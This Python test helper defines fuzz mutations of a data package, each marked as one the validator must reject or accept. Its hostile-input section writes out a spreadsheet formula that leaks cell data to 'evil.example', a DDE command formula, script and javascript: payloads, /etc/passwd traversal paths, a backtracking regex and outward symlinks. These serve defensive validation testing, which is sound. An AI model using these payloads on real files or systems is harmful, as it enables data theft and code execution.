"""Single mutations of a data package, in classes, for the seeded mutation test (``test_fuzz.py``).

Each class is a function ``(rng, package) -> (file, what it did, expectation)`` that
changes one thing in a copy: a CSV cell, row, column or whole file, ``datapackage.json``
or ``references.bib``. The expectation says whether validation must reject the change,
must accept it (it is harmless), or may do either (it depends on the cell picked).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from dataclasses import dataclass
from functools import partial
from pathlib import Path

REJECT, ACCEPT, EITHER = "reject", "accept", "either"
PLACEHOLDERS = ["None", "NA", "N/A", "n/a", "-", "--", "n.d.", "null", "nan", "?", "unknown"]
SPREADSHEET_DATES = ["May-26", "01/05/2026", "2026-05-01", "5/1/26", "Nov-23"]
PAYLOADS = ["<script>alert(1)</script>", "a`b", "{cite}`x`", "x, y", "$x^$", "\u2603", "\U0001f600", "Zo\u00eb \u0130"]


@dataclass
class Package:
    """The pristine copy's files and what the descriptor says about each CSV file."""

    root: Path
    original: dict[str, bytes]
    resources: dict[str, dict]  # file name -> resource

    def csv_files(self) -> list[str]:
        """Files with rows to mutate (the shipped record ledger has only its header)."""
        return sorted(f for f in self.resources if self.original[f"data/{f}"].count(b"\n") > 1)

    def rows(self, file: str) -> list[list[str]]:
        return list(csv.reader(io.StringIO(self.original[f"data/{file}"].decode("utf-8"), newline="")))

    def field(self, file: str, column: str) -> dict:
        return next(f for f in self.resources[file]["schema"]["fields"] if f["name"] == column)

    def is_strict(self, file: str, column: str) -> bool:
        """A column whose every value is constrained: a number, an id, a fixed list, a link."""
        if (file, column) == ("reading_changes.csv", "value"):
            return False  # as free or as strict as the column each row sets
        spec = self.field(file, column)
        c = spec.get("constraints", {})
        schema = self.resources[file]["schema"]
        linked = any(column in fk["fields"] for fk in schema.get("foreignKeys", []))
        return spec["type"] != "string" or "enum" in c or "pattern" in c or linked or spec.get("provenance") == "key"


def write_rows(path: Path, rows: list[list[str]], newline: str = "\n") -> None:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator=newline).writerows(rows)
    path.write_bytes(buffer.getvalue().encode("utf-8"))


# -- mutation classes: each takes (rng, package) and returns (file it touched, what it did, expectation) --


def _cell(rng, pkg, change):
    file = rng.choice(pkg.csv_files())
    rows = pkg.rows(file)
    r = rng.randrange(1, len(rows))
    c = rng.randrange(len(rows[0]))
    column = rows[0][c]
    value, expect = change(rng, pkg, file, column, rows[r][c])
    rows[r][c] = value
    write_rows(pkg.root / "data" / file, rows)
    return f"data/{file}", f"row {r + 1} {column} = {value!r}", expect


def _enum(pkg, file, column):
    return pkg.field(file, column).get("constraints", {}).get("enum", [])


CELL = {
    "cell_empty": lambda rng, pkg, f, col, old: ("", EITHER),
    "cell_placeholder": lambda rng, pkg, f, col, old: (
        (v := rng.choice(PLACEHOLDERS)),
        EITHER if v in _enum(pkg, f, col) or v == old else REJECT,
    ),
    "cell_leading_space": lambda rng, pkg, f, col, old: (" " + old, REJECT),
    "cell_nul_byte": lambda rng, pkg, f, col, old: (old[:1] + "\x00" + old[1:], REJECT),
    "cell_huge_integer": lambda rng, pkg, f, col, old: (
        rng.choice(["9223372036854775808", "1" + "0" * 30]),
        REJECT if pkg.field(f, col)["type"] == "integer" else EITHER,
    ),
    "cell_negative": lambda rng, pkg, f, col, old: ("-1", REJECT if pkg.is_strict(f, col) else EITHER),
    "cell_spreadsheet_date": lambda rng, pkg, f, col, old: (
        rng.choice(SPREADSHEET_DATES),
        REJECT if pkg.is_strict(f, col) else EITHER,
    ),
    "cell_payload": lambda rng, pkg, f, col, old: (rng.choice(PAYLOADS), REJECT if pkg.is_strict(f, col) else EITHER),
    "cell_control_character": lambda rng, pkg, f, col, old: (old + "\x07", REJECT),
    "cell_random_text": lambda rng, pkg, f, col, old: (
        "".join(rng.choice("abcdefghij XYZ") for _ in range(rng.randrange(1, 12))),
        EITHER,
    ),
}


def _rows(rng, pkg, change):
    file = rng.choice(pkg.csv_files())
    rows = pkg.rows(file)
    new, what, expect = change(rng, pkg, file, rows)
    write_rows(pkg.root / "data" / file, new)
    return f"data/{file}", what, expect


def _delete_row(rng, pkg, file, rows):
    r = rng.randrange(1, len(rows))
    return rows[:r] + rows[r + 1 :], f"delete row {r + 1}", EITHER


def _duplicate_row(rng, pkg, file, rows):
    r = rng.randrange(1, len(rows))
    keyed = bool(pkg.resources[file]["schema"].get("primaryKey"))
    return rows + [rows[r]], f"duplicate row {r + 1}", REJECT if keyed else EITHER


def _short_row(rng, pkg, file, rows):
    r = rng.randrange(1, len(rows))
    rows[r] = rows[r][:-1]
    return rows, f"drop the last cell of row {r + 1}", REJECT


def _shuffle_rows(rng, pkg, file, rows):
    body = rows[1:]
    rng.shuffle(body)
    return [rows[0]] + body, "shuffle the rows", ACCEPT


def _swap_in_row(rng, pkg, file, rows):
    r = rng.randrange(1, len(rows))
    a, b = rng.sample(range(len(rows[0])), 2)
    rows[r][a], rows[r][b] = rows[r][b], rows[r][a]
    return rows, f"swap {rows[0][a]} and {rows[0][b]} in row {r + 1}", EITHER


def _copy_from_other_row(rng, pkg, file, rows):
    a, b = rng.sample(range(1, len(rows)), 2) if len(rows) > 2 else (1, 1)
    c = rng.randrange(len(rows[0]))
    rows[a][c] = rows[b][c]
    return rows, f"copy {rows[0][c]} of row {b + 1} into row {a + 1}", EITHER


def _swap_columns(rng, pkg, file, rows):
    a, b = rng.sample(range(len(rows[0])), 2)
    for row in rows[1:]:
        row[a], row[b] = row[b], row[a]
    return rows, f"swap the values of {rows[0][a]} and {rows[0][b]}", EITHER


def _columns(order):
    def change(rng, pkg, file, rows):
        keep, what, expect = order(rng, rows[0])
        return [[row[i] if i is not None else "x" for i in keep] for row in rows], what, expect

    return change


def _reorder(rng, header):
    order = list(range(len(header)))
    rng.shuffle(order)
    return order, "reorder the columns", ACCEPT


def _drop(rng, header):
    c = rng.randrange(len(header))
    return [i for i in range(len(header)) if i != c], f"drop column {header[c]}", REJECT


ROWS = {
    "row_delete": _delete_row,
    "row_duplicate": _duplicate_row,
    "row_short": _short_row,
    "rows_shuffle": _shuffle_rows,
    "row_swap_cells": _swap_in_row,
    "cell_copy_from_other_row": _copy_from_other_row,
    "columns_swap_values": _swap_columns,
    "columns_reorder": _columns(_reorder),
    "column_drop": _columns(_drop),
}


def _file(rng, pkg, change):
    file = rng.choice(pkg.csv_files())
    path = pkg.root / "data" / file
    what, expect = change(rng, path, pkg.original[f"data/{file}"])
    return f"data/{file}", what, expect


def _latin1(rng, path, raw):
    text = raw.decode("utf-8")
    last = text.rstrip("\n").rsplit("\n", 1)[-1]
    path.write_bytes((text + last.replace(last[:1], "\u00e9", 1) + "\n").encode("latin-1", "replace"))
    return "save as Latin-1 with an accented character", REJECT


def _truncate(rng, path, raw):
    last_line = raw.rstrip(b"\n").rfind(b"\n") + 1
    cut = rng.randrange(last_line + 1, len(raw) - 1)
    path.write_bytes(raw[:cut])
    return f"cut off after byte {cut}", REJECT


def _directory(rng, path, raw):
    path.unlink()
    path.mkdir()
    return "replace the file by a folder", REJECT


FILES = {
    "file_crlf": lambda rng, path, raw: (path.write_bytes(raw.replace(b"\n", b"\r\n")), ("CRLF line endings", ACCEPT))[
        1
    ],
    "file_cr_only": lambda rng, path, raw: (
        path.write_bytes(raw.replace(b"\n", b"\r")),
        ("CR line endings (old Mac)", ACCEPT),
    )[1],
    "file_no_final_newline": lambda rng, path, raw: (
        path.write_bytes(raw.rstrip(b"\n")),
        ("no final line break", REJECT),
    )[1],
    "file_truncated": _truncate,
    "file_bom": lambda rng, path, raw: (path.write_bytes(b"\xef\xbb\xbf" + raw), ("UTF-8 byte order mark", REJECT))[1],
    "file_utf16_bom": lambda rng, path, raw: (
        path.write_bytes(raw.decode().encode("utf-16")),
        ("UTF-16 with BOM", REJECT),
    )[1],
    "file_utf16_no_bom": lambda rng, path, raw: (
        path.write_bytes(raw.decode().encode("utf-16-le")),
        ("UTF-16 without BOM", REJECT),
    )[1],
    "file_latin1": _latin1,
    "file_semicolons": lambda rng, path, raw: (
        path.write_bytes(raw.replace(b",", b";")),
        ("semicolons for commas", REJECT),
    )[1],
    "file_empty": lambda rng, path, raw: (path.write_bytes(b""), ("empty file", REJECT))[1],
    "file_missing": lambda rng, path, raw: (path.unlink(), ("delete the file", REJECT))[1],
    "file_directory": _directory,
    "file_nul_bytes": lambda rng, path, raw: (
        path.write_bytes(raw[: len(raw) // 2] + b"\x00\x00" + raw[len(raw) // 2 :]),
        ("NUL bytes", REJECT),
    )[1],
}


def _descriptor(rng, pkg, change):
    path = pkg.root / "data" / "datapackage.json"
    descriptor = json.loads(pkg.original["data/datapackage.json"])
    resource = rng.choice(descriptor["resources"])
    name = resource["name"]
    what, expect = change(rng, descriptor, resource)
    path.write_text(json.dumps(descriptor, indent=2, ensure_ascii=False), encoding="utf-8")
    return "data/datapackage.json", f"{name}: {what}", expect


def _json_drop_key(rng, descriptor, resource):
    """Remove one key anywhere inside a resource."""
    targets = [(resource, k) for k in resource]
    for spec in resource["schema"]["fields"]:
        targets += [(spec, k) for k in spec] + [(spec.get("constraints", {}), k) for k in spec.get("constraints", {})]
    targets += [(resource["schema"], k) for k in resource["schema"]]
    owner, key = rng.choice(targets)
    del owner[key]
    vital = key in {"name", "path", "schema", "fields", "type"} or (owner is resource["schema"] and key == "primaryKey")
    return f"delete {key!r}", REJECT if vital else EITHER


def _json_type(rng, descriptor, resource):
    spec = rng.choice(resource["schema"]["fields"])
    spec["type"] = rng.choice(["datetime", "object", "array", "any", "geopoint", "strnig", "duration"])
    return f"{spec['name']} type {spec['type']}", REJECT


def _json_foreign_key(rng, descriptor, resource):
    resource["schema"].setdefault("foreignKeys", []).append(
        {
            "fields": [resource["schema"]["fields"][0]["name"]],
            "reference": {"resource": "studies", "fields": ["no_such_column"]},
        }
    )
    return "foreign key to a missing column", REJECT


def _json_name(rng, descriptor, resource):
    resource["name"] = rng.choice(["studies\n<script>alert(1)</script>", "Studies Table", ""])
    return f"name {resource['name']!r}", REJECT


def _json_path(rng, descriptor, resource):
    resource["path"] = rng.choice(
        ["../README.md", "/etc/passwd", "sub/../../pyproject.toml", "https://example.org/x.csv"]
    )
    return f"path {resource['path']!r}", REJECT


def _json_constraint(rng, descriptor, resource):
    spec = rng.choice(resource["schema"]["fields"])
    spec.setdefault("constraints", {})[rng.choice(["exclusiveMinimum", "jsonSchema", "minimun"])] = 0
    return f"{spec['name']}: unknown constraint", REJECT


def _json_constraint_value(rng, descriptor, resource):
    spec = rng.choice(resource["schema"]["fields"])
    key, value = rng.choice(
        [("required", "yes"), ("pattern", "[a-"), ("enum", "a"), ("minimum", "zero"), ("maxLength", -1), ("unique", 1)]
    )
    spec.setdefault("constraints", {})[key] = value
    return f"{spec['name']}: {key} = {value!r}", REJECT


def _json_missing_values(rng, descriptor, resource):
    resource["schema"]["missingValues"] = ["", rng.choice(["NA", "-", "n/a"])]
    return f"missingValues {resource['schema']['missingValues']}", EITHER


def _json_path_list(rng, descriptor, resource):
    resource["path"] = [resource["path"], "other.csv"]
    return "path as a list", REJECT


def _json_fields_object(rng, descriptor, resource):
    resource["schema"]["fields"] = {f["name"]: f for f in resource["schema"]["fields"]}
    return "fields as an object", REJECT


def _json_drop_resource(rng, descriptor, resource):
    descriptor["resources"].remove(resource)
    return "delete the resource", REJECT


DESCRIPTOR = {
    "json_drop_key": _json_drop_key,
    "json_unknown_type": _json_type,
    "json_fk_missing_column": _json_foreign_key,
    "json_bad_resource_name": _json_name,
    "json_unsafe_path": _json_path,
    "json_unknown_constraint": _json_constraint,
    "json_fields_object": _json_fields_object,
    "json_bad_constraint_value": _json_constraint_value,
    "json_missing_values": _json_missing_values,
    "json_path_list": _json_path_list,
    "json_drop_resource": _json_drop_resource,
}


def _json_truncate(rng, pkg):
    raw = pkg.original["data/datapackage.json"]
    (pkg.root / "data" / "datapackage.json").write_bytes(raw[: rng.randrange(1, len(raw) - 2)])
    return "data/datapackage.json", "cut off", REJECT


_ENTRY = re.compile(rb"@(\w+)\{([^,]+),(.*?)\n\}", re.S)


def _bib(rng, pkg, change):
    raw = pkg.original["references.bib"]
    entries = list(_ENTRY.finditer(raw))
    entry = rng.choice(entries)
    new, what, expect = change(rng, raw, entry)
    (pkg.root / "references.bib").write_bytes(new)
    return "references.bib", f"{entry.group(2).decode()}: {what}", expect


def _splice(raw, start, end, insert):
    return raw[:start] + insert + raw[end:]


def _bib_drop_field(rng, raw, entry):
    required = {
        b"article": [b"author", b"title", b"journal", b"year"],
        b"book": [b"title", b"publisher", b"year"],
        b"techreport": [b"author", b"title", b"institution", b"year"],
        b"misc": [b"title"],
    }[entry.group(1)]
    name = rng.choice(required)
    line = re.search(rb"\n\s*" + name + rb"\s*=[^\n]*", entry.group(0))
    start = entry.start() + line.start()
    return _splice(raw, start, entry.start() + line.end(), b""), f"delete {name.decode()}", REJECT


def _bib_field(rng, raw, entry, text, what):
    end = entry.end() - 2
    return _splice(raw, end, end, b",\n  " + text), what, REJECT


BIB = {
    "bib_extra_brace": lambda rng, raw, e: (
        _splice(raw, e.start() + e.group(0).find(b"},") + 1, e.start() + e.group(0).find(b"},") + 1, b"}"),
        "extra '}'",
        REJECT,
    ),
    "bib_missing_brace": lambda rng, raw, e: (_splice(raw, e.end() - 1, e.end(), b""), "no closing '}'", REJECT),
    "bib_drop_required_field": _bib_drop_field,
    "bib_duplicate_entry": lambda rng, raw, e: (raw + b"\n" + e.group(0) + b"\n", "entry twice", REJECT),
    "bib_unsafe_key": lambda rng, raw, e: (
        _splice(raw, e.start(2), e.end(2), e.group(2) + rng.choice([b"`<b>x</b>`", b"{x}", b"a\xc3\xa9"])),
        "unsafe key",
        REJECT,
    ),
    "bib_javascript_url": lambda rng, raw, e: _bib_field(rng, raw, e, b"url = {javascript:alert(1)}", "javascript url"),
    "bib_year_not_a_year": lambda rng, raw, e: (
        raw[: e.start()] + re.sub(rb"(year\s*=\s*)\{\d{4}\}", rb"\1{n.d.}", e.group(0)) + raw[e.end() :],
        "year n.d.",
        REJECT,
    ),
    "bib_unknown_type": lambda rng, raw, e: (
        _splice(raw, e.start(1), e.end(1), b"weirdtype"),
        "unknown entry type",
        REJECT,
    ),
    "bib_latin1": lambda rng, raw, e: (raw.decode("utf-8").encode("latin-1", "replace"), "Latin-1", REJECT),
    "bib_truncated": lambda rng, raw, e: (raw[: e.start() + len(e.group(0)) // 2], "cut off", REJECT),
    "bib_crlf": lambda rng, raw, e: (raw.replace(b"\n", b"\r\n"), "CRLF line endings", ACCEPT),
}

CLASSES: dict[str, object] = {}
for family, apply in ((CELL, _cell), (ROWS, _rows), (FILES, _file), (DESCRIPTOR, _descriptor), (BIB, _bib)):
    CLASSES.update({name: partial(apply, change=change) for name, change in family.items()})
CLASSES["json_truncated"] = _json_truncate


# -- the classes of issue 22: hostile text, strict JSON, links out of the repository, meaning --

# Characters that print as nothing or reorder the text around them.
INVISIBLE = ["\u202e", "\u2066", "\u00ad", "\u180e", "\u3164", "\u2062", "\ufe0f", "\U000e0041", "\u2800", "\u061c"]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"x")', "=cmd|' /C calc'!A0", "=1+1"]
# Values no column that is strict could hold: superscript, doubled sign, too many digits, markup.
NOT_A_VALUE = ["\u00b2", "--5", "1" * 25, "<b>Bad Id</b>"]

HOSTILE_CELLS = {
    "cell_invisible_format": lambda rng, pkg, f, col, old: (old[:1] + rng.choice(INVISIBLE) + old[1:], REJECT),
    "cell_formula": lambda rng, pkg, f, col, old: (rng.choice(FORMULAS), REJECT),
    "cell_over_128k": lambda rng, pkg, f, col, old: ("x" * 140_000, REJECT),
}


def _one_row(rng, pkg, file: str, eligible, change) -> tuple[str, str, str]:
    """Change one row of ``file``, picked among those ``eligible(row, index)`` accepts; ``change`` says what it did."""
    rows = pkg.rows(file)
    index = {name: i for i, name in enumerate(rows[0])}
    r = rng.choice([r for r in range(1, len(rows)) if eligible(rows[r], index)])
    what = change(rows[r], index)
    write_rows(pkg.root / "data" / file, rows)
    return f"data/{file}", f"row {r + 1} {what}", REJECT


def _set_value(rng, row, index):
    row[index["value"]] = value = rng.choice(NOT_A_VALUE)
    return f"sets {row[index['column']]} to {value!r}"


def _reading_change_value(rng, pkg):
    """A change of an alternative reading that sets a strict column to what it cannot hold."""
    return _one_row(
        rng,
        pkg,
        "reading_changes.csv",
        lambda row, i: row[i["column"]] and pkg.is_strict(f"{row[i['table']]}.csv", row[i["column"]]),
        partial(_set_value, rng),
    )


def _raw_descriptor(rng, pkg, change):
    """Edit datapackage.json as text: what json.dumps cannot write (NaN, duplicate keys, depth)."""
    text = pkg.original["data/datapackage.json"].decode("utf-8")
    new, what = change(rng, text)
    (pkg.root / "data" / "datapackage.json").write_text(new, encoding="utf-8")
    return "data/datapackage.json", what, REJECT


RAW_JSON = {
    "json_nan_bound": lambda rng, text: (
        text.replace('"minimum": 0', f'"minimum": {rng.choice(["NaN", "Infinity", "-Infinity"])}', 1),
        "a minimum of NaN or Infinity",
    ),
    "json_duplicate_key": lambda rng, text: (
        text.replace('"title": ', '"title": "Shadowed", "title": ', 2).replace(
            '"title": "Shadowed", "title": ', '"title": ', 1
        ),
        "a resource's title given twice",
    ),
    "json_deep_nesting": lambda rng, text: (
        '{"resources": ' + "[" * 100_000 + "]" * 100_000 + "}",
        "nested 100,000 levels deep",
    ),
    "json_huge_integer": lambda rng, text: (
        text.replace('"maxLength": 200', '"maxLength": ' + "9" * 5000, 1),
        "an integer of 5,000 digits",
    ),
    "json_lone_surrogate": lambda rng, text: (
        text.replace('"title": "', '"title": "\\ud800', 1),
        "a lone surrogate in the package's title",
    ),
    "json_path_newline": lambda rng, text: (
        text.replace('.csv"', '.csv\\n"', 1),
        "a resource path ending in a line break",
    ),
}


def _package_paths(rng, pkg):
    path = pkg.root / "data" / "datapackage.json"
    descriptor = json.loads(pkg.original["data/datapackage.json"])
    where, value = rng.choice(
        [
            ("bibliography", "/etc/passwd"),
            ("bibliography", "javascript:alert(1)"),
            ("licenses", "javascript:alert(1)"),
            ("licenses", "../../secret.txt"),
            ("sources", "file:///etc/passwd"),
        ]
    )
    if where == "bibliography":
        descriptor["bibliography"] = value
    else:
        descriptor[where][0]["path"] = value
    path.write_text(json.dumps(descriptor, indent=2, ensure_ascii=False), encoding="utf-8")
    return "data/datapackage.json", f"package {where} path {value!r}", REJECT


def _backtracking_pattern(rng, pkg):
    """A pattern that backtracks catastrophically, and a cell that makes it: validation must not hang."""
    descriptor = json.loads(pkg.original["data/datapackage.json"])
    resource = next(r for r in descriptor["resources"] if r["name"] == "themes")
    spec = next(f for f in resource["schema"]["fields"] if f["name"] == "description")
    spec.setdefault("constraints", {})["pattern"] = "^(a|aa)+$"
    (pkg.root / "data" / "datapackage.json").write_text(json.dumps(descriptor, indent=2), encoding="utf-8")
    rows = pkg.rows("themes.csv")
    rows[1][rows[0].index("description")] = "a" * 41 + "!"
    write_rows(pkg.root / "data" / "themes.csv", rows)
    return "data/themes.csv", "pattern ^(a|aa)+$ and a cell of 41 a's and '!'", REJECT


def _outside(pkg: Package, rel: str) -> Path:
    """A copy of one of the package's files (or data/) outside the project folder."""
    target = pkg.root.parent / f"outside-{rel.replace('/', '-')}"
    source = pkg.root / rel
    if source.is_dir():
        if not target.exists():
            shutil.copytree(source, target)
    else:
        target.write_bytes(pkg.original[rel])
    return target


def _link_out(rng, pkg):
    rel = rng.choice(["data/README.md", "references.bib", "data/datapackage.json", "data/studies.csv", "data"])
    path = pkg.root / rel
    target = _outside(pkg, rel)
    (shutil.rmtree if path.is_dir() and not path.is_symlink() else Path.unlink)(path)
    path.symlink_to(target, target_is_directory=target.is_dir())
    return rel, f"{rel} is a link to a file outside the project", REJECT


def _link_loop(rng, pkg):
    rel = f"data/{rng.choice(pkg.csv_files())}"
    path = pkg.root / rel
    path.unlink()
    path.symlink_to(path.name)  # a link to itself
    return rel, "a link to itself", REJECT


def _themes(rng, pkg, change):
    rows = pkg.rows("themes.csv")
    index = {name: i for i, name in enumerate(rows[0])}
    what = change(rng, rows, index)
    write_rows(pkg.root / "data" / "themes.csv", rows)
    return "data/themes.csv", what, REJECT


def _same_position(rng, rows, index):
    """Two themes, or two subthemes of one theme, at one position."""
    parents = [r[index["parent_theme_id"]] for r in rows[1:]]
    parent = rng.choice(sorted({p for p in parents if parents.count(p) > 1}))
    a, b = rng.sample([r for r in rows[1:] if r[index["parent_theme_id"]] == parent], 2)
    a[index["position"]] = b[index["position"]]
    return f"two {'subthemes of ' + parent if parent else 'themes'} at position {b[index['position']]}"


def _same_name_in_other_case(rng, rows, index):
    a, b = rng.sample(rows[1:], 2)
    a[index["name"]] = b[index["name"]].upper()
    return f"name {a[index['name']]!r} twice, in other case"


def _quoted(row, index) -> bool:
    numerals = [n.replace(",", "") for n in re.findall(r"\d[\d,]*", row[index["quote"]])]
    return bool(row[index["value"]]) and row[index["value"]] in numerals


def _one_more(row, index):
    row[index["value"]] = str(int(row[index["value"]]) + 1)
    return f"value {row[index['value']]} against its quote"


def _figure_against_quote(rng, pkg):
    """A count whose quote gives it in digits, changed by one."""
    return _one_row(rng, pkg, "published_figures.csv", _quoted, _one_more)


def _bib_duplicate_field(rng, raw, entry):
    end = entry.end() - 2
    return _splice(raw, end, end, b",\n  title = {Shadowed}"), "title given twice", REJECT


CLASSES.update({name: partial(_cell, change=change) for name, change in HOSTILE_CELLS.items()})
CLASSES.update({name: partial(_raw_descriptor, change=change) for name, change in RAW_JSON.items()})
CLASSES.update(
    {
        "bib_duplicate_field": partial(_bib, change=_bib_duplicate_field),
        "reading_change_value": _reading_change_value,
        "json_package_paths": _package_paths,
        "json_backtracking_pattern": _backtracking_pattern,
        "link_out_of_the_project": _link_out,
        "link_loop": _link_loop,
        "theme_same_position": partial(_themes, change=_same_position),
        "theme_name_in_other_case": partial(_themes, change=_same_name_in_other_case),
        "figure_against_its_quote": _figure_against_quote,
    }
)
